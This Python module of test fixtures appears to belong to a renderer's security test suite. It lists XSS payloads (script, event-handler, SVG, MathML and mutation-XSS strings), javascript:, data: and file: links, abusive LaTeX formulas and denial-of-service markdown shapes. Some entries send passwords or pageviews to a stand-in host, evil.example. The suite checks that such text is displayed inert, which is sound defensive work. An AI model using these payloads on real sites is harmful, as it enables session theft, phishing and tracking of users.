"""Texts of an attacker: what an answer, a title, a name or a preset may contain. Each must be shown, and none may do anything.

A payload that runs sets `stolen`, opens a dialog, or asks another host. Each text ends with MARK, which must be on the screen.
"""

MARK = "end-of-text"
_RUN = "globalThis.stolen=1"

HTML = {
    "script": f"<script>{_RUN}</script>",
    "script of another host": "<script src=https://evil.example/x.js></script>",
    "script in capitals": f"<ScRiPt>{_RUN}</sCrIpT>",
    "image": f'<img src=x onerror="{_RUN}">',
    "image without quotes": f"<img/src=x/onerror={_RUN}>",
    "image of another host": '<img src="https://evil.example/seen.png">',
    "body": f"<body onload={_RUN}>",
    "details": f"<details open ontoggle={_RUN}>x</details>",
    "video": f"<video><source onerror={_RUN}></video>",
    "input with focus": f"<input autofocus onfocus={_RUN}>",
    "frame": f'<iframe src="javascript:parent.{_RUN}"></iframe>',
    "frame with a document": f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "object": f'<object data="javascript:{_RUN}"></object>',
    "embed": f'<embed src="javascript:{_RUN}">',
    "form": '<form action="https://evil.example/"><input name=password type=password><button>Sign in</button></form>',
    "button of a form": f'<button formaction="javascript:{_RUN}">Sign in</button>',
    "base": '<base href="https://evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style": "<style>body{display:none}*{background:url(https://evil.example/)}</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:url(https://evil.example/)">x</p>',
    "template": f"<template><script>{_RUN}</script></template>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
    "comment": f"<!--><img src=x onerror={_RUN}>-->",
    "textarea": f"<textarea><img title='</textarea><img src=x onerror={_RUN}>'></textarea>",
    "clobbered names": '<form id=attributes><input name=nodeName></form><a id=location href="https://evil.example/">x</a>',
    "import map": '<script type="importmap">{"imports":{"./a.js":"https://evil.example/"}}</script>',
}
SVG = {
    "svg onload": f"<svg onload={_RUN}>",
    "svg script": f"<svg><script>{_RUN}</script></svg>",
    "svg animate": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    "svg set href": f'<svg><a><set attributeName=href to="javascript:{_RUN}"/><text y=20>x</text></a></svg>',
    "svg use": "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>#x\"/></svg>",
    "svg foreign object": f"<svg><foreignObject><iframe onload={_RUN}></iframe></foreignObject></svg>",
    "svg style": f'<svg></p><style><a id="</style><img src=x onerror={_RUN}>"></svg>',
    "svg image": '<svg><image href="https://evil.example/seen.svg"/></svg>',
}
MATHML = {
    "math link": f'<math><maction actiontype="statusline" xlink:href="javascript:{_RUN}">x</maction></math>',
    "math href": f'<math href="javascript:{_RUN}"><mi>x</mi></math>',
    "math mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={_RUN}&gt;">',
    "math annotation": f'<math><annotation-xml encoding="text/html"><script>{_RUN}</script></annotation-xml></math>',
    "nested forms": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
}
LINKS = {
    "javascript link": f"[x](javascript:{_RUN})",
    "javascript link with entities": f"[x](&#106;avascript&colon;{_RUN})",
    "javascript link with a tab": f"[x](java\tscript:{_RUN})",
    "javascript link with a line break": f"[x](<java\nscript:{_RUN}>)",
    "javascript link in capitals": f"[x](JaVaScRiPt:{_RUN})",
    "data link": f"[x](data:text/html,<script>{_RUN}</script>)",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "blob link": "[x](blob:https://evil.example/1)",
    "file link": "[x](file:///etc/passwd)",
    "automatic link": f"<javascript:{_RUN}>",
    "link by reference": f"[x][a]\n\n[a]: javascript:{_RUN}",
    "title that ends an attribute": f'[x](https://a.example "\\" onmouseover=\\"{_RUN}")',
    "address that ends an attribute": f'[x](https://a.example/"onmouseover="{_RUN})',
    "html link": f'<a href="javascript:{_RUN}">x</a>',
    "image of javascript": f"![x](javascript:{_RUN})",
    "image that reports": "![x](https://evil.example/seen.png)",
    "image by reference": "![x][b]\n\n[b]: https://evil.example/seen.png",
    "image whose text is html": f"![<img src=x onerror={_RUN}>](https://a.example/x.png)",
    "link to a long address": f"[x](https://a.example/{'a' * 3000})",
}
FORMULAS = {
    "formula with a link": rf"$\href{{javascript:{_RUN}}}{{x}}$",
    "formula with a url": rf"$\url{{javascript:{_RUN}}}$",
    "formula with html": r"$\htmlId{x}{y} \class{z}{w} \style{background:url(https://evil.example/)}{v}$",
    "formula with a picture": r"$\includegraphics{https://evil.example/seen.png}$",
    "formula that is markup": f"$</math><img src=x onerror={_RUN}>$",
    "formula that never ends": r"$\def\a{\a\a}\a$",
    "formula that grows": r"$\def\a{xxxxxxxxxx}\def\b{\a\a\a\a\a\a\a\a\a\a}\def\c{\b\b\b\b\b\b\b\b\b\b}\c\c\c$",
    "formula of many fractions": "$$" + r"\frac{1}{" * 200 + "x" + "}" * 200 + "$$",
    "formula with colours": r"$\color{red}x \textcolor{red}{y} \colorbox{red}{z} \rule{9999em}{9999em}$",
}
CODE = {
    "code that is markup": f"```html\n<img src=x onerror={_RUN}>\n```",
    "language that is markup": f'```"><img/src=x/onerror={_RUN}>\nx\n```',
    "language that is a path": "```../../../../evil\nx\n```",
    "language of an object": "```__proto__\nx\n```\n\n```constructor\ny\n```",
    "inline code": f"`<img src=x onerror={_RUN}>`",
    "unknown language": "```brainfuck\n+[-]\n```",
}
SHAPES = {
    "huge table": "|" + "a|" * 300 + "\n|" + "-|" * 300 + "\n" + ("|" + "b|" * 300 + "\n") * 20,
    "table of many rows": "|a|b|\n|-|-|\n" + "|1|2|\n" * 5000,
    "deep quotes": ">" * 3000 + " x",
    "deep lists": "\n".join("  " * depth + "- x" for depth in range(300)),
    "many stars": "*" * 5000 + "x",
    "many brackets": "[" * 5000 + "x",
    "many image marks": "![" * 3000 + "x",
    "many underscores": "_a" * 5000,
    "one long line": "x" * 100_000,
    "a million of nothing": "\n" * 20_000 + "x",
    "marks that reorder": "abc \u202e\u2066 gnp.exe \u2069",
    "zero bytes and controls": "a\u200b\ufeff\u2028\u2029b",
    "combining marks": "a" + "\u0301" * 500,
}
UNCLOSED = {
    "unclosed tag": "<div",
    "unclosed attribute": '<a href="',
    "unclosed comment": "<!-- ",
    "unclosed cdata": "<![CDATA[",
    "unclosed fence": f"```html\n<script>{_RUN}</script>",
    "unclosed formula": r"$$\begin{matrix}",
}
"""The mark is inside of these."""

ANSWERS = {**HTML, **SVG, **MATHML, **LINKS, **FORMULAS, **CODE, **SHAPES}
LINES = {
    name: text
    for name, text in {**HTML, **SVG, **MATHML, **LINKS, **FORMULAS}.items()
    if "\n" not in text and "\t" not in text and len(text) < 120
}
"""Texts for one line: titles, names, tags."""


def answers() -> dict[str, str]:
    """Return all texts for answers, each with its mark."""
    closed = {name: f"{text}\n\n{MARK}" for name, text in ANSWERS.items()}
    return closed | {name: f"{text}{MARK}" for name, text in UNCLOSED.items()}
